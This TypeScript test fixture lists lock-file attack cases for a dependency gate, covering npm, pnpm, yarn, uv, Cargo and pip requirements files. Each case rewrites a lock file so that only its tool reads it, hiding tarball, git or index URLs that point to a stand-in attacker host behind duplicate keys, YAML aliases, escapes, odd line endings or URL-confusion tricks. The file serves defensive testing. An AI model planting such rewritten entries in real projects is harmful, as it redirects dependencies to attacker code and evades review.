import {
  A,
  B,
  BERRY,
  CRATES,
  cargoLock,
  EVIL,
  HEX,
  locked,
  NPM,
  npmLock,
  OTHER,
  pnpmLock,
  uvLock,
  YARN,
} from './attacks-in-locks.ts';
import type { AttackKind, GateCase } from './gate-attack.ts';

/** A plain lock file, and how it says something that only its tool understands. */
const reworded = (path: string, before: string, rows: Readonly<Record<string, string>>): readonly GateCase[] =>
  Object.entries(rows).map(([name, after]) => locked(name, path, before, after));

const NPM_LOCK = npmLock({});
const PNPM = pnpmLock(`{integrity: ${A}}`);
const NEW_PNPM = '\n  z@1.0.0:\n    resolution: ';
const UV = uvLock(HEX);
const NEW_TOML = '\n[[package]]\nname = "z"\nversion = "1.0.0"\n';
const CARGO = cargoLock(CRATES, `checksum = "${HEX}"\n`);
const PINNED = 'x==1.0.0\n';
const HTTP = 'http://evil.example';

/** Attacks by lock files that are written otherwise than their tools write them. */
export const IN_LOCK_FORMS: AttackKind = {
  kind: 'lock files: in a form that only the tool reads',
  attacks: [
    ...reworded('package-lock.json', NPM_LOCK, {
      'a key twice': NPM_LOCK.replace(`"${A}"`, `"${A}",\n"resolved": "${EVIL}/x.tgz", "integrity": "${B}"`),
      'all packages twice': NPM_LOCK.replace(/\}\s*$/, `,\n"packages": {"node_modules/x": {"resolved": "${EVIL}/x.tgz"}}}\n`),
      'a new version from another archive': npmLock({ version: '1.0.1', resolved: `${NPM}/evil/-/evil-9.0.0.tgz` }),
      'the same version in other words': npmLock({ version: 'v1.0.0', integrity: B }),
      'no version': npmLock({ version: undefined, resolved: `${NPM}/evil/-/evil-9.0.0.tgz`, integrity: B }),
      'a host before a backslash': npmLock({ version: '1.0.1', resolved: `${HTTP}\\@registry.npmjs.org/x/-/x-1.0.1.tgz` }),
      'a host before a question mark': npmLock({ version: '1.0.1', resolved: `${HTTP}?@registry.npmjs.org/x/-/x-1.0.1.tgz` }),
    }),
    ...reworded('pnpm-lock.yaml', PNPM, {
      'on one line': `lockfileVersion: '9.0'\npackages: {x@1.0.0: {resolution: {integrity: ${B}}}}\n`,
      'indented by four': `lockfileVersion: '9.0'\npackages:\n    x@1.0.0:\n        resolution: {integrity: ${B}}\n`,
      'a quoted section': PNPM.replace('packages:', '"packages":').replace(A, B),
      'a quoted key': `${PNPM}${NEW_PNPM}{"tarball": ${EVIL}/z.tgz}\n`,
      'an alias': `${PNPM}${NEW_PNPM}*a\n`,
      'a comment behind a key': `${PNPM}${NEW_PNPM}{tarball: ${EVIL}/z.tgz}\n`.replace('z@1.0.0:', 'z@1.0.0: # z'),
      'an entry on one line': `${PNPM}\n  z@1.0.0: {resolution: {tarball: ${EVIL}/z.tgz}}\n`,
      'an explicit key': `${PNPM}\n  ? z@1.0.0\n  : resolution: {tarball: ${EVIL}/z.tgz}\n`,
      'a second document': `${PNPM}---\n${PNPM.replace(A, B)}`,
      'below many lines': `${PNPM}\n  z@1.0.0:\n    os:\n${'      - linux\n'.repeat(20)}    resolution: {tarball: ${HTTP}/z.tgz}\n`,
    }),
    ...reworded('yarn.lock', YARN, {
      tabs: YARN.replaceAll('\n  ', '\n\t').replace(A, B),
      'lines that end with CR': YARN.replaceAll('\n', '\r').replace(A, B),
      'a new version from another archive': YARN.replace('"1.0.0"', '"1.0.1"').replace('x/-/x-1.0.0', 'evil/-/evil-9.0.0'),
    }),
    ...reworded('yarn.lock', BERRY, {
      'on one line': `${BERRY}\n"z@npm:^1.0.0": {version: 1.0.0, resolution: "z@${EVIL}/z.tgz"}\n`,
      escapes: `${BERRY}\n"z@npm:^1":\n  version: 1.0.0\n  resolution: "z@https:\\x2f/evil.example/z.tgz"\n`,
    }),
    ...reworded('uv.lock', UV, {
      'a list of packages': `package = [{ name = "x", version = "1.0.0" }]\n${UV}`,
      'a quoted head': `${UV}${NEW_TOML.replace('package', '"package"')}source = { url = "${EVIL}/z.whl" }\n`,
      'a dotted key': `${UV}${NEW_TOML}source.url = "${EVIL}/z.whl"\n`,
      'a table for the source': `${UV}${NEW_TOML}[package.source]\nurl = "${EVIL}/z.whl"\n`,
      'a literal text': `${UV}${NEW_TOML}source = { url = '${EVIL}/z.whl' }\n`,
      'a quoted key': UV.replace('size = 1 },', `size = 1 },\n    { "url" = "${EVIL}/x-1.0.0.whl", hash = "sha256:${OTHER}" },`),
    }),
    ...reworded('Cargo.lock', CARGO, {
      'a quoted head': `${CARGO}${NEW_TOML.replace('package', '"package"')}source = "git+${EVIL}/z#abc"\n`,
      'a text over lines': `${CARGO}${NEW_TOML}source = """\\\n  git+${EVIL}/z#abc"""\n`,
      'an indented key': `${CARGO}${NEW_TOML}  source = "git+${EVIL}/z#abc"\n`,
    }),
    ...reworded('requirements.txt', PINNED, {
      'an index behind a comment': `# note\u2028--index-url ${HTTP}/simple\n${PINNED}`,
      'an index over two lines': `-\\\ni ${HTTP}/simple\n${PINNED}`,
      'an index without a space': `-i${HTTP}/simple\n${PINNED}`,
      'an abbreviated option': `--extra-index ${HTTP}/simple\n${PINNED}`,
      'requirements from elsewhere': `-r ${HTTP}/r.txt\n${PINNED}`,
    }),
  ],
};
